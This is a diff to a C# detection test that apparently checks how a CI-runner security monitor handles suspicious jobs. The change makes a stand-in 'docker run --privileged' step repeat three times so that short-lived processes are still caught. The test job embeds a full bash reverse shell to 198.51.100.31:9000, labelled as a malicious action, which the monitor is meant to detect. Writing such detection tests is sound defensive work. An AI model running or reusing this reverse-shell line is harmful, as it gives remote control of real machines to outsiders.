@@ -31,10 +31,12 @@ public sealed class ProcessDetectionTests
         File.Copy("/bin/true", docker); // a stand-in docker CLI: the exec and its arguments are what is judged
 
         // step 1 (uses: evil/action): a reverse shell to an address the policy allows (so the connection is made);
-        // step 2: docker run --privileged (no daemon needed: the exec is what is seen)
+        // step 2: docker run --privileged (no daemon needed: the exec is what is seen). The stand-in exits at once,
+        // unlike a real `docker run`; a program gone before its command line is read is a documented blind spot, so
+        // the step runs it three times, as a busy machine may lose the first one's arguments
         var job = $"""
             GITHUB_ACTION=__evil_action GITHUB_ACTION_REPOSITORY=evil/action bash -c 'bash -i >& /dev/tcp/198.51.100.31/9000 0>&1 & sleep 2; kill %1 2>/dev/null; true'
-            GITHUB_ACTION=build {docker} run --privileged --rm alpine true
+            for i in 1 2 3; do GITHUB_ACTION=build {docker} run --privileged --rm alpine true; sleep 0.2; done
             sleep 1
             """;
         var worker = await lab.RunInRunnerAsync(Path.Combine(bin, "Runner.Worker"), ["-c", job], TimeSpan.FromSeconds(30));
